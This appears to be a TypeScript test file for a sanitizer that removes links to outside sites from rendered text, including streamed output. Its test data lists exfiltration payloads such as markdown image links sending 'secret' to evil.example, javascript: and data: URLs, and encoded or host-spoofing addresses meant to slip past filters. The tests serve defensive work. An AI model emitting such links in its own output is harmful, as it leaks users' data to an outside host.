import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { SafeStream, safeText } from './safe-text.ts';

const OWN = 'https://desk.example.com';
const safe = (text: string): string => safeText(text, OWN);

describe('Text without links to other sites', () => {
  for (const hostile of [
    '![x](https://evil.example/a.png?d=secret)',
    '[click](https://evil.example/)',
    '[click](//evil.example/x)',
    'see https://evil.example/x.',
    'see HTTPS://EVIL.example/x',
    'see www.evil.example/x',
    '<img src="https://evil.example/a.png">',
    '<img src=//evil.example/a.png>',
    '<a href="https://evil.example">here</a>',
    '<https://evil.example/x>',
    '[x]: https://evil.example/x',
    '[x](javascript:alert(1))',
    '[x](data:text/html;base64,AAAA)',
    '[evil.example](mailto:a@evil.example?body=secret)',
    '![x][y]\n[y]: //evil.example/a.png',
    '![x\n](//evil.example/a.png)',
    '![x](\n//evil.example/a.png)',
    '<img\nsrc="https://evil.example/a.png">',
    '[x](ftp://evil.example/x "title")',
    'https://desk.example.com.evil.example/x',
    'https://desk.example.com@evil.example/x',
  ]) {
    test(`the link in ${JSON.stringify(hostile)} is removed`, () => {
      const text = safe(hostile);
      assert.doesNotMatch(text, /!\[|\/\/\S*evil|javascript:|data:text|mailto:/i);
    });
  }

  for (const hidden of [
    '[y]: https:&sol;&sol;evil.example/x',
    '[y]: &#104;ttps:&#x2F;/evil.example/x',
    '[x](https:&#47;&#47;evil.example/(a)b)',
    'see https:\\/\\/evil.example/x',
    'see www&period;evil.example/x',
    '[x](/\\evil.example/x)',
  ])
    test(`the encoded address in ${JSON.stringify(hidden)} is removed`, () => {
      assert.doesNotMatch(safe(hidden), /evil/);
    });

  test('a link definition that points to another site no longer defines a link', () => {
    for (const [text, cleaned] of [
      ['[y]: \\\\evil.example/x', '[y]'],
      ['[y]: /\\evil.example/x', '[y]'],
      ['[y]: <//evil.example/x>', '[y] : <[link removed]>'],
      ['[y]:\n\\\\evil.example/x', '[y] :\n\\\\evil.example/x'],
      ['[x](\n\\\\evil.example/x)', '[x] (\n\\\\evil.example/x)'],
      ['[ERROR]: timeout', '[ERROR] : timeout'],
      [`[y]: ${OWN}/console`, `[y]: ${OWN}/console`],
    ] as const)
      assert.equal(safe(text), cleaned);
  });

  test('a long text is cut before it is cleaned, and no character is split', () => {
    assert.equal(safeText('ab\u{1F600}c', OWN, 3), 'ab');
    assert.equal(safeText('ab\u{1F600}c', OWN, 4), 'ab\u{1F600}');
    assert.equal(safe('x'.repeat(100_000)).length, 16_000);
  });

  test('own links, placeholders, commands and punctuation are unchanged', () => {
    for (const text of [
      `See [KB0000012](${OWN}/console/knowledge/articles/KB0000012).`,
      'Run `kinit <user name>` and read /etc/krb5.conf // then sign in.',
      '| a | b |\n| --- | --- |\n\n- [x] done: 5.7.1 (see KB0000001)',
      'ratio 3:1, at 10:30, C:\\Temp, a//b, \\\\server\\share, &lt;b&gt;, 1...2',
    ])
      assert.equal(safe(text), text);
  });

  test('a stream is cleaned like the whole text, wherever it is split', () => {
    const text = 'First ![x](https://evil.example/a).\nSecond https://evil.example/b\n\nThird line';
    for (let size = 1; size < 12; size += 1) {
      const parts: string[] = [];
      const stream = new SafeStream(OWN, (part) => parts.push(part));
      for (let at = 0; at < text.length; at += size) stream.write(text.slice(at, at + size));
      stream.end();
      assert.equal(parts.join(''), safe(text));
    }
  });
});
